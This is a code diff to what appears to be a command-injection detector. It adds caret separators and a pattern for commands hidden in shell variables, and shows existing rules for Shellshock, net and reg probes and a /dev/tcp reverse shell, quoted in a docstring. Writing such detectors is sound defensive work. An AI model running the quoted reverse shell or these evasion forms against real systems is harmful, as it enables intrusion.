@@ -40,10 +40,10 @@ WEAK = frozenset({
     # PowerShell probes: what a scanner runs to see output or a delay (get-help, start-sleep -s 5)
     "get-help", "start-sleep", "get-date", "get-host", "get-command", "write-output", "write-host",
 })
-_SEP = re.compile(r"(;|\|\||\||&&|&|\n|\r|\$\(|`)\s*")
+_SEP = re.compile(r"(;|\|\||\||&&|&|\n|\r|\$\(|`|\^)\s*")
 _WORD = re.compile(r"(?:(?:/usr)?(?:/s?bin/)|\./)?([a-z][a-z0-9_.]*(?:-[a-z][a-z0-9]*)?)", re.I)
 """A command name, optionally with its directory; PowerShell's Verb-Noun (``Get-Content``) is one word."""
-_SHELLISH_ARG = re.compile(r"\s+(?:-|/|\./|~|\$|%|\"|'|\d|\\|[a-z]:\\|https?:|[\w.-]+[./][\w./-]+)", re.I)
+_SHELLISH_ARG = re.compile(r"\s+(?:-|/|\./|~|\$|%|\"|'|\d|\\|[a-z]:[\\/]|https?:|[\w.-]+[./][\w./-]+)", re.I)
 _AFTER_CMD_END = re.compile(r"\s*(?:$|[;|&`)>\n]|<(?!/?[a-z][\w-]*(?:\s|/?>))|\$\{|\s*\|\|?)|\s+\#\s*$", re.I)
 """The command ends here (a separator, a redirection, a trailing comment, the end); ``<div>`` after a word is
 markup, not input."""
@@ -65,6 +65,8 @@ _SHELLSHOCK = re.compile(r"\(\s*\)\s*\{[^}]{0,20}\}\s*;")
 _NET_VERB = re.compile(r"\s+(?:user|localgroup|group|view|share|use|accounts|config|session)\b", re.I)
 _REG_VERB = re.compile(r"\s+(?:add|query|delete|save|export|import|load)\s+[\"']?HK", re.I)
 _SUBST_META = re.compile(r"[$;|><]")
+_VAR_RUN = re.compile(r"""(?:^|(?<=[\s;|&^]))([a-z_]\w*)=\$?\\?(['"])(.{1,200}?)\\?\2\s*;\s*\$\{?\1\}?(?![\w])""", re.I)
+"""``CMD=$'id';$CMD``: a variable set to a command line, then expanded in command position, which runs it."""
 _DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/[\w.:-]+/\d+")
 """Bash's network redirection (``sh -i >& /dev/tcp/10.0.0.1/4444 0>&1``): a reverse shell, in any position."""
 _PHP_CODE = re.compile(
@@ -205,6 +207,10 @@ def _nested_command(text: str) -> tuple[int, int] | None:
     )
     if found:
         return found.start(), found.end()
+    if "=" in text and "$" in text:
+        for m in _VAR_RUN.finditer(text):
+            if _command_at(m.group(3) + " ", 0, ";"):
+                return m.start(), m.end()
     if "(" in text:
         for m in _EXEC_CALL.finditer(text):
             if _command_at(m.group(2) + " ", 0, ";"):
